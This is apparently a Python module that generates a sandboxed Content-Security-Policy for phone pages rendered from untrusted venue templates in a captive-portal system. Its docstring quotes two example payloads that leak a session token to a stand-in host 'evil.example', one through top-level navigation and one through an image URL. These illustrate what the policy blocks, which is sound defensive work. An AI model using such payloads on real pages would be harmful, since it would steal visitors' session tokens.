"""The Content-Security-Policy of a phone page rendered from a venue's own (untrusted) template.

A venue template runs with the phone's secrets on the page (status link, session token) and on the
same host as the consoles, so its page is a sandboxed, opaque origin that may not:

* run scripts (no ``allow-scripts`` and ``script-src 'none'``): a sandbox flag cannot stop a
  top-level document from navigating *itself*, so ``top.location = "https://evil.example/" + token``
  is only prevented by not running the script at all; Chromium also ignores ``<meta refresh>`` in a
  document sandboxed without ``allow-scripts``;
* navigate the top level without a tap (``allow-top-navigation-by-user-activation`` only: a venue's
  links still work when the visitor follows them);
* load anything from another host (images, styles, fonts, media, fetch/XHR): a resource URL would
  carry the token out (``<img src="https://evil.example/leak?s=…">``);
* post a form anywhere but here and the allow-listed post-login hosts (a form post that our server
  answers with a redirect is checked against ``form-action`` too).
"""
from __future__ import annotations

from collections.abc import Iterable

SANDBOX = ("sandbox allow-forms allow-popups allow-popups-to-escape-sandbox "
           "allow-top-navigation-by-user-activation")
SAME_SITE = "'self' data:"


def _source(host: str) -> str:
    """An allow-list entry (``x.cn`` or ``.x.cn`` = subdomains) as a CSP host source, or ""."""
    host = host.strip().lower()
    if not host or any(not (ch.isalnum() or ch in ".-") for ch in host):
        return ""          # never let a stored value inject another directive
    return f"*{host}" if host.startswith(".") else host


def venue_page_csp(form_hosts: Iterable[str] = (), *, any_form_target: bool = False) -> str:
    """The policy for a venue-rendered page; ``form_hosts`` are the post-login redirect hosts.
    ``any_form_target``: a gateway that grants by redirect (openNDS) is sent the phone after the form
    post, at an address the page cannot know in advance."""
    form = " ".join(s for s in ("'self'", *(_source(h) for h in form_hosts)) if s)
    return "; ".join((
        SANDBOX,
        "default-src 'none'",
        "script-src 'none'",
        f"img-src {SAME_SITE}",
        f"style-src {SAME_SITE} 'unsafe-inline'",
        f"font-src {SAME_SITE}",
        f"media-src {SAME_SITE}",
        "connect-src 'self'",
        "base-uri 'none'",
        "object-src 'none'",
        "frame-src 'none'",
        *(() if any_form_target else (f"form-action {form}",)),
        "frame-ancestors 'none'",
    ))


VENUE_PAGE_CSP = venue_page_csp()
"""The policy with no post-login host (tests and documentation)."""
